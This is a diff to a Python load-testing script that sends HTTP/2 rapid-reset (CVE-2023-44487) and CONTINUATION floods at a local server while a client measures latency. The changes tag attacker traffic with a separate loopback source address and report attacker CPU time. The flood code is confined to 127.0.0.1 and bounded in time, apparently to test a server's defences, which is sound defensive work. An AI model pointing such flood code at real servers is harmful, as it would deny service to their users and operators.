@@ -5,21 +5,25 @@
                                            RATE a second, for SECONDS; prints "count errors p50_ms p99_ms max_ms"
   h2floods.py reset PORT SECONDS           rapid reset (CVE-2023-44487): on a new h2c connection after another, HEADERS of
                                            a GET of /limited/x each followed by its RST_STREAM (CANCEL), 100 streams a
-                                           write, until the gateway closes the connection; for SECONDS; prints
-                                           "connections goaways streams"
+                                           write, until the server closes the connection; for SECONDS; prints
+                                           "connections goaways streams cpu_seconds"
   h2floods.py continuation PORT SECONDS    CONTINUATION flood: on a new h2c connection after another, a HEADERS frame
-                                           without END_HEADERS, then 16 KB CONTINUATION frames, until the gateway closes
-                                           the connection; for SECONDS; prints "connections goaways bytes"
+                                           without END_HEADERS, then 16 KB CONTINUATION frames, until the server closes
+                                           the connection; for SECONDS; prints "connections goaways bytes cpu_seconds"
 
-Loopback only; every loop is bounded by SECONDS. Standard library only (header blocks are HPACK literals).
+Loopback only: every connection goes to 127.0.0.1, the client's from 127.0.0.1 and the attackers' from SOURCE (env,
+127.0.0.2 by default; Linux routes all of 127/8 to lo), so the server tells them apart by address. Every loop is
+bounded by SECONDS. Standard library only (header blocks are HPACK literals). cpu_seconds: the attacker's own CPU.
 """
 import http.client
+import os
 import socket
 import struct
 import sys
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SOURCE = os.environ.get("SOURCE", "127.0.0.2")
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -67,8 +71,11 @@ def flood(port, seconds, batch_of):
     connections = goaways = sent = 0
     while time.time() < end:
         connections += 1
-        sock = socket.create_connection(("127.0.0.1", port))
-        sock.settimeout(5)
+        try:
+            sock = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(SOURCE, 0))
+        except OSError:
+            goaways += 1  # refused (or no local port free): the next try
+            continue
         try:
             sock.sendall(PREFACE + frame(4, 0, 0))
             state = {"stream": 1}
@@ -99,7 +106,7 @@ def rapid_reset(port, seconds):
         return bytes(out)
 
     connections, goaways, sent = flood(port, seconds, batch)
-    print(connections, goaways, sent // 78)
+    print(connections, goaways, sent // 78, "%.2f" % time.process_time())
 
 
 def continuation(port, seconds):
@@ -112,11 +119,11 @@ def continuation(port, seconds):
             return frame(1, 0x1, 1, first) + frame(9, 0, 1, filler)
         return frame(9, 0, 1, filler)
 
-    print(*flood(port, seconds, batch))
+    print(*flood(port, seconds, batch), "%.2f" % time.process_time())
 
 
 def client(port, seconds, rate):
-    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=("127.0.0.1", 0))
     latencies, errors = [], 0
     interval = 1.0 / rate
     start = time.time()
@@ -133,7 +140,7 @@ def client(port, seconds, rate):
         except (OSError, http.client.HTTPException):
             errors += 1
             connection.close()
-            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=("127.0.0.1", 0))
             continue
         latencies.append((time.perf_counter() - begin) * 1000)
         pause = due - time.time()
